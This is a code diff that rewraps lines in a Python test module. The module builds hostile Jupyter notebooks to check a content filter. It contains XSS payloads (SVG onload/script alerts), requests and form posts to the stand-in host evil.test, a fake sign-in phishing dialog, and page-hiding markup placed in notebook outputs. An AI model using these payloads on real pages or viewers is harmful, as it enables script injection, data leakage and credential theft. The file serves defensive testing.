@@ -1,4 +1,5 @@
-"""What hostile notebooks hold: scripts, requests, navigation, forms, and markup that hides or covers the rest of a page.
+"""What hostile notebooks hold: scripts, requests, navigation, forms, and markup that hides or covers the rest of a
+page.
 
 Written after the filter was. Each would set `window.hit`, open a dialog, ask `evil.test` for something, lead away, or
 keep what follows it from being seen, in a page that let it.
@@ -18,7 +19,8 @@ from helpers.markup import dialect as markup
 _HIT = "window.hit=1;alert(1)"
 _SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_HIT}"><script>{_HIT}</script></svg>'
 _ASKING = (
-    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{_HIT}" width="30" height="30">'
+    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{_HIT}" '
+    'width="30" height="30">'
     f"<style>@import url(https://evil.test/s.css); @font-face {{ font-family: a; src: url(https://evil.test/a.woff) }} "
     f'text {{ font-family: a }}</style><script href="https://evil.test/s.js"/><script>{_HIT}</script>'
     '<image xlink:href="https://evil.test/i.png" width="9" height="9"/><use href="https://evil.test/u.svg#a"/>'
@@ -148,7 +150,8 @@ HTML = [
     "<form action=https://evil.test/ method=post><input name=a value=b><button>send</button></form>",
     "<button form=f formaction=https://evil.test/>go</button><form id=f></form>",
     "<isindex action=https://evil.test/>",
-    "<dialog open style='position:fixed;inset:0'>Your session has ended. <a href='https://evil.test'>Sign in</a></dialog>",
+    "<dialog open style='position:fixed;inset:0'>Your session has ended. "
+    "<a href='https://evil.test'>Sign in</a></dialog>",
     # hides or covers the rest
     "<div style='display:none'>",
     "<div hidden>",
@@ -248,10 +251,14 @@ def notebook() -> NotebookNode:
         new_code_cell("", outputs=[new_output("error", ename=evil, evalue=evil, traceback=[evil])]),
         new_code_cell("", outputs=[new_output("display_data", {"text/plain": evil})]),
         new_code_cell("", outputs=[new_output("display_data", {evil: evil})]),
-        new_code_cell("", outputs=[new_output("display_data", {"image/svg+xml": _SVG, "text/plain": evil})], metadata={"alt": evil}),
+        new_code_cell("", outputs=[
+            new_output("display_data", {"image/svg+xml": _SVG, "text/plain": evil}),
+        ], metadata={"alt": evil}),
         new_code_cell("", outputs=[new_output("display_data", {"image/png": evil})]),
         new_code_cell("", outputs=[new_output("display_data", {"text/latex": f"$\\text{{{evil}}}$"})]),
         new_code_cell("", outputs=[new_output("display_data", forged, metadata={"image/svg+xml": about})]),
-        new_code_cell("", outputs=[new_output("display_data", {"text/markdown": evil}, metadata={"text/markdown": {"role": evil}})]),
+        new_code_cell("", outputs=[
+            new_output("display_data", {"text/markdown": evil}, metadata={"text/markdown": {"role": evil}}),
+        ]),
     )  # fmt: skip
     return build(*cells, title=evil, description=evil)
